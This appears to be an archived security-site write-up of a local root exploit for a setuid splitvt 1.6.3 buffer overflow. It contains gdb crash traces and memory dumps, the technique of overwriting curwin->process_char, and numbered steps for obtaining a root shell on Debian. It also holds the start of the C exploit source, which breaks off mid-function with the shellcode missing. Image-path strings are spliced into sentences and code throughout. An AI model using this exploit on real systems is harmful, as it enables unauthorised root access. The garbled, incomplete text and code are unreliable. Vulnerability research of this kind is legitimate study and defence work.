Visit our newest sister site!
Hundreds of free aircraft flight manuals
Civilian • Historical • Military • Declassified • FREE!

TUCoPS :: Linux :: Apps N-Z :: splitvt2.htm

Splitvt 1.6.3 buffer overflow





    'syzop'  found  following.    Splitvt  1.6.3  contains  a   buffer
    overflow,  if  you  have   installed  splitvt  suid  root    (likeDebian/Redhat/etc, btw not slackware).

    The problem is in lock.c in lock_screen:

        if (cnt < BUFSIZ-1) *(nextbuf++) = c;

    This looks ok, but cnt is never increased.  nextbuf is set to  the
    buffer where  the data  should be  stored, 1st  time it's entered1
    (password  input),  2nd  time  it's  entered2  (again  password to
    verify), and:

        static char entered1[BUFSIZ], entered2[BUFSIZ];
        BUFSIZ = 8192.

    Ok, let's see what  gets overwritten... we start  splitvt, ctrl+o,

        Enter password: blah
        Re-enter password: xxxxx<around 13.000 of x's (until we crash)>

        Program received signal SIGSEGV, Segmentation fault.
        0x400b5786 in getc ()
        (gdb) backtrace
        #0  0x400b5786 in getc()
        #1  0x804e028 in event_getc (X_event=0xbfffdb0c) at vtmouse.c:194
        #2  0x8049d8c in main (argc=1, argv=0xbffffc14) at splitvt.c:387
        #3  0x400847e2 in   ()

    Don't pay too much attention to  the point of the crash, the  only
    thing we  now know  is we  can't overwrite  the return address (or
    not enough), that's very logical  with a function which is  called
    for every  single character.   The backtrace  doesn't seem  to  be
    interessting, possibly we have  overwritten some important var  or
    something.  We must search for another way to jump to our  exploit

    Let's see how entered2 and the memory after it looks like:

        0x805c940 <entered2>:   0x78787878      0x78787878      0x78787878      0x78787878
        0x805c950 <entered2+16>:        0x78787878      0x78787878      0x78787878      0x78787878
        0x805c960 <entered2+32>:        0x78787878      0x78787878      0x78787878      0x78787878
        -- snip --
        0x805e930 <entered2+8176>:      0x78787878      0x78787878      0x78787878      0x78787878
        0x805e940 <marked>:     0x78787878      0x78787878      0x78787878      0x78787878
        0x805e950 <on+8>:       0x78787878      0x78787878      0x78787878      0x78787878
        etc etc, until:
        0x805fa00 <next+128>:   0x787878780x78787878      0x78787878      0x78787878
        0x805fa10 <next+144>:   0x78787878      0x78787878      0x78787878      0x78787878
        0x805fa20 <tty_mode+4>: 0x78787878      0x78787878      0x78787878      0x78787878
        0x805fa30 <curwin>:     0x78787878      0x78787878      0x787878780x78787878
        0x805fa40 <physical+12>:        0x78787878      0x40141a78      0x40141b00      0x0805fa58

    After further investigation the following vars are overwritten:

        marked, oldattr, on, selbuf, master_fd, next, tty_mode, curwin, physical

    Let's see...

        cut-paste.c:14:static int marked, oldattr;
        cut-paste.c:24:int *oldattr;
        cut-paste.c:215:static char selbuf[4096];
        misc.c:128:int master_fd;
        vtmouse.c:163:  static char prefix[8], *next;
        misc.c:426:struct termio tty_mode;  /* Save tty mode here */
        vt100.c:31:window *curwin;
        vt100.c:34:struct physical physical;

    Only the last two seem interessting:typedef struct {
                position cursor;                /* The current position of cursor */
                int rows;                       /* The number of rows in window */
                int cols;                       /* The number of cols in window */
                int row_offset;                 /* The physical offset of upper edge */
                int scr_upper;                  /* Upper limit of scroll region */
                int scr_lower;                  /* Lower limit of scroll region */
                void (*process_char)();         /* Next output processing function */
                enum keystate key_state;                /* For vt100 keypad */
                unsigned char charset[NCHARSETS];       /* Current character set */
                unsigned char textattr;                 /* Current text attributes */
                intesc_param[MAX_PARAMS],*cur_param;  /* Escape parameters */
                int param_idx;                  /* Current index into esc_param */
                int **videomem;                 /* Storage for the virtual screen */
                int *tabstops;                  /* Tabstops in the columns */
                position saved_cursor;          /* Saved cursor position */
                unsigned char saved_textattr;   /* Saved text attributes */
                } window;

        struct physical {
                window *subwins[2];     /* The smaller, split sub-windows */
                int rows;               /* The number of rows on the screen */
                int cols;               /* The number of cols on the screen */

    Hey,  that  looks   nice!  curwin->process_char...  'Next   output
    processing function'.  All we have to dois create our own  window
    struct, put the address of our-window-struct into *curwin and  put
    a  pointer  in  our-window-structure.process_char  to  the exploit
    code.  So:

        - Program reads curwin
        - Program reads process_char of our-window-struct
        - Program executes the function

    Let's  first  see  how  many  characters  we  exactly need for our
    overflow, so  we aren't  going to  overflow unneccesary characters
    (we don't want to segfault):

        0x0805fa50 (curwin) - 0x0805c960 (buffer2) = 0x30f0 (12.528)

    Nice,  so  we  want  curwin  to  point  to  the  begin of buffer2,
    0x0805c960, let's test:

        (sleep 45; echo blaaaaaaaaa)
        ctrl+o, x, 'enter password' bla,'enter password again', [0x40](100x) + [0x60 0xc9 0x05 0x08](12.428x).
        Program received signal SIGSEGV, Segmentation fault.
        0x40404040 in ?? ()

    Wow!  Our exploit will look like:


    'syzop' coded the exploit in c, using standard shellcode, then put
    the  exploit  output  in  a  file,  ftp'd it to windows (nobody is
    perfect) box and  copy&pasted it using  putty.  But  every time he
    tried to paste the 1st line he got 'Program exited normally.',  so
    there was a special character  in the exploit somewhere and  after
    tracing he  found out  it was  0xFF.   Great, now  we've to create

    There are 3 0xFF's... after  disassembling we see this is  because
    of the call -0x24 back, the shellcode does a jmp +0x1f and a  call
    -0x24  to  find  out  where  the  string /bin/sh is located.  This
    isn't necessary since we know the exact location of the  '/bin/sh'
    string.   After  a  little  change  and  removed  the call, we try
    again...   Wow we  got a  shell, but  after a  'whoami' we  aren't
    happy  anymore..  no  root,  mmmm.   Ofcourse,  we  have  to  do a
    setuid(0) first...   After finding  out how  to do  a setuid(0) in
    assembly  language  and  again  coding  shellcode  we  have  a new

        sh-2.02# root
        sh-2.02# uid=0(root) gid=1000(syzop) egid=0(root) groups=1000(syzop)

    The terminal is screwed up  (just a 'reset' and it's  ok), however
    we got root!

    Now  test  it  at  the  debian  binary  splitvt  (latestversion,
    1.6.3-4).  First  we have to  find out the  address of the  buffer
    again, let's see how we could do this...

                                        if (strcmp(entered1, entered2) == 0) {
                                "Screen locked by %s.  Enter password: ",


        ROOT@P166:/# gdb splitvt
        GNU gdb 4.17.m68k.objc.threads.hwwp.fpu.gnat
        Copyright 1998 Free Software Foundation, Inc.
        GDB is free software, covered by the GNU General Public License, and you are
        welcome to change it and/or distribute copies of it under certain conditions.
        Type "show copying" to see the conditions.
        There is absolutely no warranty for GDB.  Type "show warranty" for details.
        This GDB was configured as "i486-pc-linux-gnu"...
        (no debugging symbols found)...
        (gdb) break strcmp
        Breakpoint 1 at 0x8048fe4
        (gdb) ignore 1 25
        Will ignore next 25 crossings of breakpoint 1.
        (gdb) run
        splitvt is started.. ctrl+x, o, la, li, la, li, la, li etc.. ah, in the end:
        (no debugging symbols found)...(no debugging symbols found)...
        Breakpoint 1, 0x40080e14 in strcmp ()
        (gdb) disassemble strcmp
        Dump of assembler code for function strcmp:
        0x40080e10 <strcmp>:    pushl  %ebp
        0x40080e11 <strcmp+1>:  movl   %esp,%ebp
        0x40080e13 <strcmp+3>:  pushl  %esi
        0x40080e14<strcmp+4>:  movl   0x8(%ebp),%esi
        0x40080e17 <strcmp+7>:  movl   0xc(%ebp),%edx
        0x40080e1a <strcmp+10>: leal   0x0(%esi),%esi
        (gdb) break *0x40080e17
        Breakpoint 2 at 0x40080e17
        (gdb) c

        Breakpoint 2, 0x40080e17 in strcmp ()
        (gdb) info register esi
             esi:  0x80572e4   134574820

    So entered2 is at 0x80572e4.   Working exploit for Debian  follows
    below (you have to change it  for redhat).  You have to  paste the
    stuff exactly, so  using your mouse  in (normal) console  Linux to
    copy&paste won't work for several reasons.

        Local exploit for Debian splitvt 1.6.3-4 - by Syzop

        Thanks to aleph1 for writing the article about
        buffer overflows in phrack 49 :).

        Greetz: Terror, Scorpion, ^Stealth^, Jornx, Multani,
            and all other ppl of The^Alliance :)

    How to use the exploit

    1.  Use: ./splitexp >expcode to put the exploitcode into 'expcode'.
    2.  Start splitvt
    3.  Enter something like 'sleep 60; echo lalala'
    4.  Ctrl+O, x, 'Enter password' bla
    5.  Then splitvt says 'Re-enter password', this is the moment
        you have to follow the instructions in 'expcode' to paste
        the exploitcode to splitvt (don't press enter, see 6).
    6.  Wait until the sleep is done (or kill 'sleep' yourself from
        _another_ terminal).
    7.  You now got a rootshell,
        type 'reset' to get a normal terminal :).


    NOTE 1: You have to paste the data exactly, so just a paste with the mouse
        won't work since the shellcode also contains 08's(backspaces),
        So using mouse copy&paste in normal linux console mode doesn't work,
        I used windows with 'putty'

    NOTE 2: If you ftp the exploit code to a windows box, be sure to transfer
        the file in ASCII mode :).


    #include <stdlib.h>
    #include <stdio.h>

    #define NOP     0x90

        The shellcode: setuid(0); execve("/bin/sh",NULL); exit(0);.
        Pointer to /bin/sh is static, so filled with 0x90shere,
        will be changed to an address at runtime.char shellcode[] =

    void main(int argc, char *argv[]) {
      char *buff, *ptr;
      char *pointerz;
      long *addr_ptr, addr;
      int i;

      long addr1=0x80592e4;     // pointer to the middle of our window-struct
      long addr2;           // pointer to position after 25% of the NOPs
      long addr3;           // pointer to '/bin/sh' string

      fprintf(stderr,"Splitvt exploit by Syzop\n\n");
      if (argc > 1) addr1  = atol(argv[1]);


      if (!(buff = malloc(1500))) {
        printf("Can't allocate memory.\n");

      // set offset-to-/bin/sh in shellcode
      ptr = shellcode+10;
      addr_ptr = (long *) ptr;
        *(addr_ptr++) = addr3;

      // 0-300: the window struct
      // first filling with 0x40'sptr = buff;
      addr_ptr = (long *) ptr;
      for (i = 0; i < 300; i+=4)
        *(addr_ptr++) = 0x40404040;

      // set pointer to addr2 in curwin->process_char
